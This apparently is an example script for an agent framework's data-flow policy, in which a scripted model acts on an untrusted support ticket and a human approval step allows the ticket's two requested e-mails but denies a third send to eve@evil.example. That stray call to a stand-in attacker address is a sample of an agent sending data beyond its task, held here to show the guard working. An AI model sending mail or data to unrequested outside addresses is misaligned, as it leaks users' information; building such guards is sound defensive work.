// A user asks to do what a ticket says: one question shows the whole ticket, and a yes allows what it asks for.
import { createAgent, memoryStore, tool, z } from 'provost'
import { dataFlowPolicy } from 'provost/governance'
import { scriptedModel } from 'provost/testing'

const readTicket = tool({
  name: 'read_ticket',
  effect: 'read',
  input: z.object({ id: z.string() }),
  args: { id: 'selector' },
  returns: { integrity: 'untrusted', sources: ['tickets'] },
  execute: () => 'Please send an e-mail to vera@client.example and to paul@client.example.',
})
const sendEmail = tool({
  name: 'send_email',
  description: 'Sends an e-mail.',
  effect: 'egress',
  input: z.object({ to: z.string() }),
  args: { to: 'destination' },
  execute: ({ to }) => `sent to ${to}`,
})
const email = (to: string) => ({ toolCalls: [{ name: 'send_email', input: { to } }] })
const model = scriptedModel([
  { toolCalls: [{ name: 'read_ticket', input: { id: 'T-481' } }] },
  email('vera@client.example'),
  email('paul@client.example'),
  email('eve@evil.example'),
  { text: 'Vera and Paul are told.' },
])
const agent = createAgent({
  name: 'desk',
  model,
  tools: [readTicket, sendEmail],
  extensions: [dataFlowPolicy({ mode: 'enforce', contracts: { delegation: 'once' } })],
  store: memoryStore(),
})

const { text } = await agent.run('Do what the ticket T-481 says.', {
  onApproval({ input, evidence }) {
    const isOrder = JSON.stringify(evidence).includes('"order"')
    console.log(isOrder ? 'the whole ticket' : 'one call', JSON.stringify(input))
    // → the whole ticket {"to":"vera@client.example"}
    // → one call {"to":"eve@evil.example"}
    return isOrder ? 'approve' : 'deny'
  },
})
console.log(text) // → Vera and Paul are told.
